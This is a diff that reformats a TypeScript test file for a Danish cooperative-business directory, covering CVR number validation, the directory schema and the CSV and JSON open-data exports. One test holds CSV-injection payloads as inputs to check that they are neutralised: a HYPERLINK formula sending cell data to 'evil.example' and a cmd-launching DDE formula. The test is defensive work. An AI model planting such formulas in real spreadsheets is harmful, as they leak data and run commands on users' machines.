@@ -11,11 +11,19 @@ describe('CVR numbers', () => {
   });
 
   it('refuses a wrong check digit, wrong length, letters and a leading zero', () => {
-    for (const bad of ['10150818', '1015081', '101508170', '1015O817', '01234567', '', ' 10150817']) expect(isValidCvr(bad), bad).toBe(false);
+    for (const bad of ['10150818', '1015081', '101508170', '1015O817', '01234567', '', ' 10150817'])
+      expect(isValidCvr(bad), bad).toBe(false);
   });
 
   it('is the rule the directory schema applies', () => {
-    const entry = { name: 'Eksempel', legalForm: 'F.M.B.A.', sector: 'Handel', district: 'Nørrebro', offers: ['detailhandel'], summary: 'Et fiktivt eksempel.' };
+    const entry = {
+      name: 'Eksempel',
+      legalForm: 'F.M.B.A.',
+      sector: 'Handel',
+      district: 'Nørrebro',
+      offers: ['detailhandel'],
+      summary: 'Et fiktivt eksempel.',
+    };
     expect(businessSchema.safeParse({ ...entry, cvr: '10150817' }).success).toBe(true);
     const refused = businessSchema.safeParse({ ...entry, cvr: '10150818' });
     expect(refused.success).toBe(false);
@@ -47,9 +55,19 @@ describe('open data', () => {
 
   it('has only public fields, with what is unknown left empty', () => {
     expect(record).toEqual({
-      navn: 'Kooperativet "Syd"; tryk og grafik', cvr: '', selskabsform: 'A.M.B.A.', branche: 'Medier og kultur', bydel: 'Valby',
-      ydelser: ['Tryk og grafisk', 'Kommunikation og medier'], rsv: false, rummelige_job: [], stiftet: null, hjemmeside: '',
-      beskrivelse: 'Et fiktivt trykkeri\nmed to linjer.', side: 'https://example.dk/virksomheder/syd/', senest_gennemgaaet: '2026-11-29',
+      navn: 'Kooperativet "Syd"; tryk og grafik',
+      cvr: '',
+      selskabsform: 'A.M.B.A.',
+      branche: 'Medier og kultur',
+      bydel: 'Valby',
+      ydelser: ['Tryk og grafisk', 'Kommunikation og medier'],
+      rsv: false,
+      rummelige_job: [],
+      stiftet: null,
+      hjemmeside: '',
+      beskrivelse: 'Et fiktivt trykkeri\nmed to linjer.',
+      side: 'https://example.dk/virksomheder/syd/',
+      senest_gennemgaaet: '2026-11-29',
     });
   });
 
@@ -57,8 +75,12 @@ describe('open data', () => {
     const csv = toCsv([record]);
     expect(csv.startsWith('\uFEFFnavn;cvr;')).toBe(true);
     const [header, row] = csv.slice(1).split('\r\n');
-    expect(header).toBe('navn;cvr;selskabsform;branche;bydel;ydelser;rsv;stiftet;hjemmeside;beskrivelse;side;senest_gennemgaaet;rummelige_job');
-    expect(row).toBe('"Kooperativet ""Syd""; tryk og grafik";;A.M.B.A.;Medier og kultur;Valby;Tryk og grafisk, Kommunikation og medier;nej;;;"Et fiktivt trykkeri\nmed to linjer.";https://example.dk/virksomheder/syd/;2026-11-29;');
+    expect(header).toBe(
+      'navn;cvr;selskabsform;branche;bydel;ydelser;rsv;stiftet;hjemmeside;beskrivelse;side;senest_gennemgaaet;rummelige_job',
+    );
+    expect(row).toBe(
+      '"Kooperativet ""Syd""; tryk og grafik";;A.M.B.A.;Medier og kultur;Valby;Tryk og grafisk, Kommunikation og medier;nej;;;"Et fiktivt trykkeri\nmed to linjer.";https://example.dk/virksomheder/syd/;2026-11-29;',
+    );
   });
 
   it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection) and quotes them right', () => {
@@ -71,23 +93,45 @@ describe('open data', () => {
       offers: ['detailhandel'],
       summary: '@SUM(1+1)*cmd|" /C calc"!A0',
     });
-    const row = toCsv([toPublicRecord(hostile, 'https://example.dk/virksomheder/x/')]).slice(1).split('\r\n')[1]!;
+    const row = toCsv([toPublicRecord(hostile, 'https://example.dk/virksomheder/x/')])
+      .slice(1)
+      .split('\r\n')[1]!;
     const cells = row.split(/;(?=(?:[^"]*"[^"]*")*[^"]*$)/);
     expect(cells[0]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")"`);
     expect(cells[9]).toBe(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
     for (const [raw, shown] of [
-      ['=1+1', "'=1+1"], ['+45 12 34 56 78', "'+45 12 34 56 78"], ['-2+3', "'-2+3"], ['@A1', "'@A1"],
-      ['\t=1', "'\t=1"], ['\r=1', "\"'\r=1\""], ['\n=1', "\"'\n=1\""], ['  =1', "'  =1"],
-      ['a;b', '"a;b"'], ['say "hi"', '"say ""hi"""'], ['two\nlines', '"two\nlines"'],
-      ['Kooperativ A.M.B.A.', 'Kooperativ A.M.B.A.'], ['1-2 dage', '1-2 dage'], ['info@example.dk', 'info@example.dk'],
-    ] as const) expect(csvField(raw), JSON.stringify(raw)).toBe(shown);
+      ['=1+1', "'=1+1"],
+      ['+45 12 34 56 78', "'+45 12 34 56 78"],
+      ['-2+3', "'-2+3"],
+      ['@A1', "'@A1"],
+      ['\t=1', "'\t=1"],
+      ['\r=1', '"\'\r=1"'],
+      ['\n=1', '"\'\n=1"'],
+      ['  =1', "'  =1"],
+      ['a;b', '"a;b"'],
+      ['say "hi"', '"say ""hi"""'],
+      ['two\nlines', '"two\nlines"'],
+      ['Kooperativ A.M.B.A.', 'Kooperativ A.M.B.A.'],
+      ['1-2 dage', '1-2 dage'],
+      ['info@example.dk', 'info@example.dk'],
+    ] as const)
+      expect(csvField(raw), JSON.stringify(raw)).toBe(shown);
   });
 
   it('keeps the JSON download plain data: formulas stay as typed, and JSON escapes quotes', () => {
-    const json = JSON.stringify(toPublicRecord(businessSchema.parse({
-      name: '=1+1 "</script>', legalForm: 'A.M.B.A.', sector: 'Handel', district: 'Valby', offers: ['detailhandel'], summary: 'x',
-    }), 'https://example.dk/'));
+    const json = JSON.stringify(
+      toPublicRecord(
+        businessSchema.parse({
+          name: '=1+1 "</script>',
+          legalForm: 'A.M.B.A.',
+          sector: 'Handel',
+          district: 'Valby',
+          offers: ['detailhandel'],
+          summary: 'x',
+        }),
+        'https://example.dk/',
+      ),
+    );
     expect(JSON.parse(json).navn).toBe('=1+1 "</script>');
   });
 });
-
